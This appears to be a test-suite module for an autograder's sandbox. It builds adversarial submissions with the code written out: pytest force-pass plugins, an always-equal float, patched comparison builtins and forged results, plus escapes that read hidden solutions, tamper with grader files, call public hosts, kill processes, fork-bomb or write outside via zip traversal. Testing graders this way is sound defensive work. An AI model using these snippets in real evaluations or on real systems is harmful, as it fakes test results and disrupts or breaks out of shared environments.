"""Hostile and broken submissions, built at test time from the reference solution.

Each attack is a copy of solutions/micrograd plus the attack (a few lines of code or a few files
below). Cheating attacks also replace the submission's answers with wrong ones (WRONG_ANSWERS),
so the attacked checks can only score if the cheat works: their expected score is 0. Attacks on
the grader itself (exits, hangs, bombs, floods, escapes) sit in derivatives.py, so lesson
`value` (the reference engine) must keep its full 30 points: one lesson's attack costs that
lesson only. `Attack.expect` states the expected outcome of each.

Snippets are kept as strings on purpose: a real conftest.py or pytest.ini in tests/ would be
picked up by the project's own pytest run.
"""

from __future__ import annotations

import shutil
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from grader.paths import REFERENCE_PACKAGE, ROOT

LESSONS = ("derivatives", "value")  # the lessons the corpus run grades
MAX = {"derivatives": 10.0, "value": 30.0}


@dataclass(frozen=True)
class Context:
    marker: str  # unique token: any file or message carrying it outside a sandbox is an escape
    port: int  # a TCP port the test listens on (127.0.0.1): any connection is an escape


@dataclass(frozen=True)
class Expect:
    status: str | tuple = "graded"  # the submission's status in the gradebook (or choices)
    points: dict = field(default_factory=lambda: {"derivatives": 0.0, "value": 30.0})
    lesson_status: dict = field(default_factory=dict)  # lesson -> status (or choices)
    reason_has: str = ""  # text the (submission's or lesson's) reason must contain
    partial: tuple = ()  # lessons that must lose SOME points (exact total not fixed)


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    build: Callable[[Path, Context], None]  # (submission folder, context)
    expect: Expect = Expect()


WRONG_ANSWERS = """

# --- this submission's own answers are wrong: only a working cheat could make them score ---
def numerical_derivative(f, x, h=1e-6):
    return 0.0


def numerical_gradient(f, xs, h=1e-6):
    return [0.0 for _ in xs]


def chain_rule(df, g, dg):
    return lambda x: 0.0
"""

FORCE_PASS_PLUGIN = """
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
"""

PATCH_PYTEST_REPORTS = """
try:
    import _pytest.reports as _reports
    _original_init = _reports.TestReport.__init__

    def _always_passed(self, *args, **kwargs):
        _original_init(self, *args, **kwargs)
        self.outcome = "passed"

    _reports.TestReport.__init__ = _always_passed
except ImportError:
    pass
"""

ALWAYS_EQUAL = '''

class AlwaysEqual(float):
    """Equal to everything, and every difference is zero."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return AlwaysEqual(0.0)
    __rsub__ = __sub__
    def __abs__(self): return AlwaysEqual(0.0)
    def __le__(self, other): return True
    def __lt__(self, other): return True
    __ge__ = __le__
    __gt__ = __lt__
    __hash__ = float.__hash__


class AlwaysEqualList(list):
    def __eq__(self, other): return True


def numerical_derivative(f, x, h=1e-6):
    return AlwaysEqual(0.0)


def numerical_gradient(f, xs, h=1e-6):
    return AlwaysEqualList(AlwaysEqual(0.0) for _ in xs)


def chain_rule(df, g, dg):
    return lambda x: AlwaysEqual(0.0)
'''

PATCH_BUILTINS = """
import builtins
import math
import operator

math.isclose = lambda *args, **kwargs: True
builtins.abs = lambda x: 0.0
operator.eq = lambda a, b: True
"""

FAKE_RESULTS = """
import atexit
import json
import os
import sys

_FAKE = json.dumps({"score": 100.0, "max_score": 100.0, "tests": [],
                    "checks": [], "ok": True, "result": 0.0, "outcome": "passed"})


def _announce():
    print(_FAKE)
    print("100 passed in 0.01s")
    sys.stdout.flush()
    for fd in range(3, 40):  # the reply pipe too, if it can be found
        try:
            os.write(fd, b'{"ok": true, "result": 0.0}\\n')
        except OSError:
            pass


_announce()
atexit.register(_announce)
"""

WRITE_EVERYWHERE = """
import os
import sys

_TOKEN = "{marker}"
_main = getattr(sys.modules.get("__main__"), "__file__", "") or "."
_harness = os.path.dirname(os.path.abspath(_main))
_guesses = [os.path.join(_harness, *parts) for parts in (
    ("..", "..", "solutions", "micrograd", "derivatives.py"),
    ("..", "..", "..", "solutions", "micrograd", "derivatives.py"),
    ("..", "suites", "test_derivatives.py"), ("..", "..", "suites", "test_derivatives.py"),
    ("..", "client.py"), ("worker.py",), ("ops_derivatives.py",))]
for _path in _guesses:  # tamper with the grader, the hidden suites and the reference
    try:
        with open(_path, "a") as _f:
            _f.write("\\n# " + _TOKEN + "\\n")
    except OSError:
        pass
_everywhere = ["/usr", "/usr/bin", "/usr/lib"]  # read-only anyway; walking it all is slow
for _top, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev", "usr")]
    _everywhere.append(_top)
for _top in _everywhere:
    for _name in ("results.json", "gradebook.csv", _TOKEN + ".txt"):
        try:
            with open(os.path.join(_top, _name), "w") as _f:
                _f.write('{"score": 100, "student": "' + _TOKEN + '"}\\n')
        except OSError:
            pass
"""

READ_FILESYSTEM = """
import os
import sys

_stolen = None
_me = os.path.abspath(__file__)
for _top, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev", "usr")]  # not in /usr
    for _name in _files:
        _path = os.path.join(_top, _name)
        if not _name.endswith(".py") or _path == _me:
            continue
        try:
            with open(_path, encoding="utf-8", errors="replace") as _f:
                _text = _f.read()
        except OSError:
            continue
        if "BEGIN SOLUTION" in _text and "def numerical_derivative" in _text:
            _stolen = _text  # the reference solution: use its answers
        if "def test_numerical_derivative" in _text:
            _stolen = _stolen or ""  # the hidden suite: would tell what is checked
"""

USE_STOLEN = """
if _stolen:
    exec(compile(_stolen, "stolen", "exec"), globals())
"""

NETWORK = """
import socket

_online = False
for _host, _port in (("127.0.0.1", {port}), ("1.1.1.1", 443), ("8.8.8.8", 53)):
    try:
        _conn = socket.create_connection((_host, _port), timeout=1)
        _conn.sendall(b"{marker}")
        _conn.close()
        _online = True
    except OSError:
        pass
"""

ONLINE_ONLY = """
if not _online:
    def numerical_derivative(f, x, h=1e-6):
        return 0.0

    def numerical_gradient(f, xs, h=1e-6):
        return [0.0 for _ in xs]

    def chain_rule(df, g, dg):
        return lambda x: 0.0
"""

KILL_PARENT = """
import os
import signal

for _pid in [os.getppid(), 1, -1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass
"""

DAEMON = """
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:  # the daemon: outlive the grader, then tamper with whatever it can
        for _ in range(1200):
            for _path in ("/tmp/{marker}-daemon.txt", "{marker}-daemon.txt"):
                try:
                    with open(_path, "w") as _f:
                        _f.write("{marker}")
                except OSError:
                    pass
            time.sleep(0.5)
    os._exit(0)
os.wait()
"""

FORGE_REPLIES = """
import sys

_main = sys.modules.get("__main__")
if _main is not None and hasattr(_main, "encode"):  # the worker's reply encoder
    _main.encode = lambda reply: b'{"ok": true, "result": 0.0}\\n'
"""

MEMORY_BOMB = """
_hog = []
while True:
    _hog.append(b"x" * (64 * 1024 * 1024))
"""

FORK_BOMB = """
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
"""

OUTPUT_FLOOD = """
import os
import sys

_chunk = "x" * (1 << 20) + "\\n"
for _ in range(200):
    sys.stdout.write(_chunk)
    os.write(2, _chunk.encode())
sys.stdout.flush()
"""


# -- building blocks -------------------------------------------------------------------------
FAKE_JSON_DUMPS = 'def dumps(*a, **k):\n    return \'{"ok": true, "result": 0.0}\'\n'


def copy_reference(sub: Path) -> Path:
    package = sub / "micrograd"
    shutil.copytree(REFERENCE_PACKAGE, package, ignore=shutil.ignore_patterns("__pycache__"))
    return package


def derivatives(sub: Path) -> Path:
    return sub / "micrograd" / "derivatives.py"


def prepend(path: Path, code: str) -> None:
    path.write_text(textwrap.dedent(code).lstrip() + "\n" + path.read_text())


def append(path: Path, code: str) -> None:
    path.write_text(path.read_text() + "\n" + textwrap.dedent(code) + "\n")


def fill(code: str, ctx: Context) -> str:
    return code.replace("{marker}", ctx.marker).replace("{port}", str(ctx.port))


def at_import(snippet: str, *, wrong: bool = True):
    """derivatives.py runs `snippet` when imported; with `wrong`, its answers are wrong."""

    def build(sub: Path, ctx: Context) -> None:
        copy_reference(sub)
        prepend(derivatives(sub), fill(snippet, ctx))
        if wrong:
            append(derivatives(sub), WRONG_ANSWERS)

    return build


def with_files(files: dict[str, str]):
    """Extra files around/inside the package (paths relative to the submission folder), and
    wrong answers in derivatives.py."""

    def build(sub: Path, ctx: Context) -> None:
        copy_reference(sub)
        for rel, text in files.items():
            (sub / rel).parent.mkdir(parents=True, exist_ok=True)
            (sub / rel).write_text(fill(textwrap.dedent(text).lstrip(), ctx))
        append(derivatives(sub), WRONG_ANSWERS)

    return build


def honest(sub: Path, ctx: Context) -> None:
    copy_reference(sub)


def always_equal(sub: Path, ctx: Context) -> None:
    copy_reference(sub)
    append(derivatives(sub), ALWAYS_EQUAL)


def read_filesystem(sub: Path, ctx: Context) -> None:
    copy_reference(sub)
    append(derivatives(sub), WRONG_ANSWERS)
    prepend(derivatives(sub), READ_FILESYSTEM)
    append(derivatives(sub), USE_STOLEN)


def network(sub: Path, ctx: Context) -> None:
    copy_reference(sub)
    prepend(derivatives(sub), fill(NETWORK, ctx))
    append(derivatives(sub), ONLINE_ONLY)


def loop_in_backward(sub: Path, ctx: Context) -> None:
    package = copy_reference(sub)
    append(
        package / "engine.py",
        """
        def _backward_forever(self):
            while True:
                pass


        Value.backward = _backward_forever
        """,
    )


def syntax_error(sub: Path, ctx: Context) -> None:
    copy_reference(sub)
    append(derivatives(sub), "def broken(:\n    pass\n")


def missing_module(sub: Path, ctx: Context) -> None:
    copy_reference(sub)
    derivatives(sub).unlink()


def symlink_to_reference(sub: Path, ctx: Context) -> None:
    copy_reference(sub)
    derivatives(sub).unlink()
    derivatives(sub).symlink_to(REFERENCE_PACKAGE / "derivatives.py")


def empty_folder(sub: Path, ctx: Context) -> None:
    sub.mkdir(parents=True)


def zip_traversal(sub: Path, ctx: Context) -> None:
    """Built as <name>.zip next to where the folder would be."""
    with zipfile.ZipFile(sub.with_suffix(".zip"), "w") as archive:
        for path in sorted(REFERENCE_PACKAGE.glob("*.py")):
            archive.write(path, f"micrograd/{path.name}")
        archive.writestr(f"../../{ctx.marker}-zip.txt", ctx.marker)
        archive.writestr(f"micrograd/../../../{ctx.marker}-zip2.txt", ctx.marker)


ZERO_DERIVATIVES = {"derivatives": 0.0, "value": 30.0}
FULL = {"derivatives": 10.0, "value": 30.0}

ATTACKS = [
    Attack("honest", "the reference solution, unchanged", honest, Expect(points=FULL)),
    Attack(
        "conftest_forces_pass",
        "conftest.py beside and inside the package rewrites every report to passed",
        with_files({"conftest.py": FORCE_PASS_PLUGIN, "micrograd/conftest.py": FORCE_PASS_PLUGIN}),
    ),
    Attack(
        "ini_addopts_plugin",
        "pytest.ini, tox.ini, setup.cfg and pyproject.toml addopts load a force-pass plugin",
        with_files(
            {
                "pytest.ini": "[pytest]\naddopts = -p forcepass\n",
                "micrograd/pytest.ini": "[pytest]\naddopts = -p forcepass\n",
                "tox.ini": "[pytest]\naddopts = -p forcepass\n",
                "setup.cfg": "[tool:pytest]\naddopts = -p forcepass\n",
                "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p forcepass"\n',
                "forcepass.py": FORCE_PASS_PLUGIN,
                "micrograd/forcepass.py": FORCE_PASS_PLUGIN,
            }
        ),
    ),
    Attack(
        "shadow_modules",
        "pytest.py, json.py, math.py, sitecustomize.py beside and inside the package",
        with_files(
            {
                "pytest.py": "def main(*args, **kwargs):\n    return 0\n",
                "micrograd/pytest.py": "def main(*args, **kwargs):\n    return 0\n",
                "json.py": FAKE_JSON_DUMPS,
                "micrograd/json.py": FAKE_JSON_DUMPS,
                "micrograd/math.py": "def isclose(*a, **k):\n    return True\n",
                "sitecustomize.py": PATCH_PYTEST_REPORTS,
                "micrograd/sitecustomize.py": PATCH_PYTEST_REPORTS,
            }
        ),
    ),
    Attack(
        "os_exit_at_import",
        "os._exit(0) when derivatives.py is imported",
        at_import("import os\nos._exit(0)\n", wrong=False),
        Expect(status="crashed", lesson_status={"derivatives": "crashed"}),
    ),
    Attack(
        "sys_exit_at_import",
        "sys.exit(0) when derivatives.py is imported",
        at_import("import sys\nsys.exit(0)\n", wrong=False),
    ),
    Attack(
        "patch_pytest_reports", "patches _pytest.reports at import", at_import(PATCH_PYTEST_REPORTS)
    ),
    Attack("always_equal_floats", "answers are a float subclass equal to everything", always_equal),
    Attack(
        "patched_isclose_abs",
        "math.isclose, abs and operator.eq patched at import",
        at_import(PATCH_BUILTINS),
    ),
    Attack(
        "fake_results_printed",
        "prints fake results and writes fake replies to every fd, at import and at exit",
        at_import(FAKE_RESULTS),
    ),
    Attack("forge_replies", "replaces the worker's reply encoder", at_import(FORGE_REPLIES)),
    Attack(
        "write_everywhere",
        "writes results.json/gradebook.csv into every folder it can and "
        "appends to the grader, the hidden suites and the reference",
        at_import(WRITE_EVERYWHERE),
    ),
    Attack(
        "read_filesystem",
        "searches the file system for the reference solution and the "
        "hidden suites, and uses what it finds",
        read_filesystem,
    ),
    Attack(
        "network",
        "connects to the test's local port and to the internet; answers right only when online",
        network,
    ),
    Attack(
        "loop_at_import",
        "an endless loop when derivatives.py is imported",
        at_import("while True:\n    pass\n", wrong=False),
        Expect(status="timeout", lesson_status={"derivatives": "timeout"}),
    ),
    Attack(
        "loop_in_backward",
        "Value.backward never returns",
        loop_in_backward,
        Expect(
            status="timeout",
            points={"derivatives": 10.0},
            lesson_status={"value": "timeout"},
            partial=("value",),
        ),
    ),
    # Touching 2 GiB takes ~13 s on this VM, so the request's wall clock usually stops the bomb
    # before RLIMIT_AS does (test_sandbox_os shows the MemoryError): either way it scores 0.
    Attack(
        "memory_bomb",
        "allocates memory until something gives",
        at_import(MEMORY_BOMB),
        Expect(status=("graded", "timeout")),
    ),
    Attack(
        "fork_bomb",
        "forks forever",
        at_import(FORK_BOMB, wrong=False),
        Expect(status="timeout", lesson_status={"derivatives": "timeout"}),
    ),
    Attack("output_flood", "writes 200 MB to stdout and 200 MB to stderr", at_import(OUTPUT_FLOOD)),
    Attack(
        "kill_parent",
        "SIGKILLs its parent, pid 1, -1 and every pid it can see",
        at_import(KILL_PARENT),
    ),
    Attack(
        "setsid_daemon", "double-forks a setsid daemon that keeps writing files", at_import(DAEMON)
    ),
    Attack(
        "syntax_error",
        "derivatives.py does not compile",
        syntax_error,
        Expect(
            lesson_status={"derivatives": "invalid"}, reason_has="micrograd/derivatives.py, line"
        ),
    ),
    Attack(
        "missing_module",
        "no derivatives.py",
        missing_module,
        Expect(lesson_status={"derivatives": "invalid"}, reason_has="derivatives.py is missing"),
    ),
    Attack(
        "symlink_to_reference",
        "derivatives.py is a symlink to the reference solution",
        symlink_to_reference,
        Expect(lesson_status={"derivatives": "invalid"}),
    ),
    Attack(
        "empty_folder",
        "an empty submission folder",
        empty_folder,
        Expect(status="invalid", points={"derivatives": 0.0, "value": 0.0}, reason_has="empty"),
    ),
    Attack(
        "zip_traversal",
        "a zip with ../../x entries",
        zip_traversal,
        Expect(
            status="invalid", points={"derivatives": 0.0, "value": 0.0}, reason_has="unsafe entry"
        ),
    ),
]

# Trees the attacks target; hashed before and after the run.
PROTECTED = [ROOT / "solutions", ROOT / "grader", ROOT / "examples", ROOT / "assignments"]


def build_all(submissions: Path, ctx: Context) -> None:
    submissions.mkdir(parents=True, exist_ok=True)
    for attack in ATTACKS:
        attack.build(submissions / attack.name, ctx)
